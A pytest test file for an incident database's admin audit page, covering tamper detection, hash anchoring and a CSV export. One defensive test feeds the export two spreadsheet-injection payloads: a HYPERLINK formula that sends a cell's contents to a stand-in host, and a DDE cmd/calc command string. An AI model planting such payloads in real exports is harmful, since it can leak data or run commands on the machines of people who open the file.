"""The admin's audit page runs the checks `audit verify` runs, and says what it found.

The page used to check the hash chain only: a record edited with sqlite3 (its
sensitivity made public, its title changed) or deleted behind the app's back writes no
audit entry, so the page said "Chain verified" and nothing else. AppTest on real files.
"""

from __future__ import annotations

import csv
import html
import io
import sqlite3
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pytest
import streamlit.testing.v1.app_test as app_test
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from incidents.access import Role, Viewer
from incidents.importer import import_file
from incidents.query import Query
from incidents.record import Incident
from incidents.spreadsheet_safety import could_run
from incidents.store import geopackage_format as gpkg
from incidents.store import open_store
from incidents.store.gpkg import GeoPackageStore
from tests.app.conftest import point_app_at
from tests.conftest import ADMIN, EDITOR, EXAMPLE, ROOT

PAGE = str(ROOT / "app_pages" / "audit_log.py")
TIMEOUT = 60


@pytest.fixture
def as_admin(monkeypatch: pytest.MonkeyPatch) -> Viewer:
    """The page sees an administrator (sign-in itself is tested in test_identity_pages)."""
    from app_pages import common

    monkeypatch.setattr(common, "viewer", lambda: ADMIN)
    return ADMIN


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> GeoPackageStore:
    store = GeoPackageStore(tmp_path / "incidents.gpkg")
    import_file(EXAMPLE, store, EDITOR)
    point_app_at(str(store.path), tmp_path, monkeypatch)
    return store


def sql(store: GeoPackageStore, statement: str) -> None:
    """One statement straight on the file, as someone with sqlite3 or QGIS would."""
    with sqlite3.connect(store.path) as conn:
        gpkg.register_functions(conn)
        conn.execute(statement)
    conn.close()


def run_page() -> AppTest:
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT).run()
    assert not at.exception, at.exception
    return at


def texts(elements: Any) -> str:
    return "\n".join(str(e.value) for e in elements)


def shown(elements: Any) -> str:
    """The elements' Markdown as the reader sees it (escapes and entities resolved)."""
    return html.unescape(texts(elements).replace("\\", ""))


def test_a_clean_store_is_verified_chain_and_records(db, as_admin):
    at = run_page()
    assert "Chain verified" in texts(at.success)
    assert f"all {db.count(Query(), ADMIN)} records in the store" in texts(at.success)
    assert not at.error


def test_records_changed_or_deleted_outside_the_app_are_named(db, as_admin):
    changed, deleted = sorted(db.query(Query(), ADMIN, ["id"])["id"])[:2]
    kept = db.get(changed, EDITOR)
    assert kept is not None
    db.save(kept.replace(sensitivity="restricted"), EDITOR)  # in the app: hidden from the public
    sql(
        db, f"UPDATE incidents SET sensitivity = 'public', title = 'Nothing' WHERE id = '{changed}'"
    )
    sql(db, f"DELETE FROM incident_sources WHERE incident_id = '{deleted}'")
    sql(db, f"DELETE FROM incidents WHERE id = '{deleted}'")
    at = run_page()
    errors = texts(at.error)
    assert "2 records differ from what the audit log says" in errors
    assert f"Record {changed}: its sensitivity, title fields differ" in html.unescape(
        errors.replace("\\", "")
    )
    assert f"Record {deleted} is missing" in html.unescape(errors.replace("\\", ""))
    assert "deleted outside the app" in errors
    assert "Chain verified" in texts(at.success)  # the chain itself was not touched
    assert "Records checked" not in texts(at.success)


def test_the_head_hash_is_shown_to_keep_elsewhere_and_can_be_checked(db, as_admin):
    head = db.audit_head()
    assert head is not None
    at = run_page()
    assert [c.value for c in at.code] == [head.hash]
    advice = texts(at.caption)
    assert "Keep a copy of this hash outside this system" in advice and "anchor" in advice
    box = at.text_input(key="audit_anchor")
    at = box.input(head.hash).run()
    assert "nothing has been added since" in texts(at.success)
    at = at.text_input(key="audit_anchor").input("ab" * 32).run()
    assert "no longer in the audit log" in texts(at.error)
    at = at.text_input(key="audit_anchor").input("not a hash").run()
    assert "is not an anchor" in texts(at.error)


def test_a_store_file_others_can_read_is_named_with_the_fix(db, as_admin):
    db.path.chmod(0o644)
    at = run_page()
    assert f"chmod 600 {db.path}" in texts(at.warning)


@pytest.fixture
def downloads(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[MemoryMediaFileStorage]]:
    """The in-memory file stores AppTest serves downloads from, to read a CSV back."""
    made: list[MemoryMediaFileStorage] = []

    class Kept(MemoryMediaFileStorage):
        def __init__(self, *args: Any) -> None:
            super().__init__(*args)
            made.append(self)

    monkeypatch.setattr(app_test, "MemoryMediaFileStorage", Kept)
    yield made


def test_the_csv_download_shows_formulas_as_text(db, as_admin, downloads):
    """An id from an imported file and an actor's sign-in name are outside text: in the
    CSV an admin opens in a spreadsheet, none may run as a formula."""
    hostile = Viewer('=HYPERLINK("http://x.example/"&A1)', Role.EDITOR)
    record = Incident(
        id="@SUM(1+1)*cmd|' /C calc'!A0",
        type="killing",
        title="Synthetic hostile id",
        date_start=date(2020, 6, 9),
        date_end=date(2020, 6, 9),
        country="LY",
    )
    db.write_batch([record], hostile)
    at = run_page()
    url = at.get("download_button")[0].proto.url
    data = downloads[-1].get_file(url.rsplit("/", 1)[1].split(".")[0]).content
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
    assert rows[0] == ["seq", "at", "actor", "action", "incident", "hash"]
    cells = [cell for row in rows for cell in row]
    assert "'" + hostile.name in cells and "'" + record.id in cells
    assert not [c for c in cells if could_run(c) and not c.lstrip("-").isdigit()]
    assert open_store(str(db.path)).verify_records().ok


def test_filtering_the_entries_keeps_the_findings_on_the_page(db, as_admin):
    sql(db, "UPDATE incidents SET title = 'Nothing' WHERE id = 'tarhuna-ex-003'")
    at = run_page()
    at = at.multiselect[0].select("import:create").run()
    assert not at.exception
    assert len(at.dataframe[0].value) == 9
    assert "Record tarhuna-ex-003: its title field differs" in shown(at.error)


def test_in_arabic_the_anchor_s_time_and_command_read_left_to_right(db, as_admin):
    """Tried as an Arabic reader would: "written at 2026-12-06T09:42:49Z" was drawn
    "06T09:42:49Z-12-2026", and the command's words came apart in the wrong order."""
    from app_pages import language
    from incidents import translation

    head = db.audit_head()
    at = AppTest.from_file(PAGE, default_timeout=TIMEOUT)
    at.session_state[language.ACTIVE] = "ar"  # as app.py's run leaves it for the page
    before = list(translation._resolvers)
    translation.use_resolver(language._from_session)
    try:
        at.run()
    finally:
        translation._resolvers[:] = before
    assert not at.exception
    anchor = texts(at.markdown)
    stamp = head.at.replace(":", "&#58;").replace("-", "\\-").replace(".", "\\.")
    assert f"\u200e{stamp}\u200e" in anchor, anchor[:300]
    assert "\u200e`python -m incidents audit verify --anchor HASH`\u200e" in texts(at.caption)
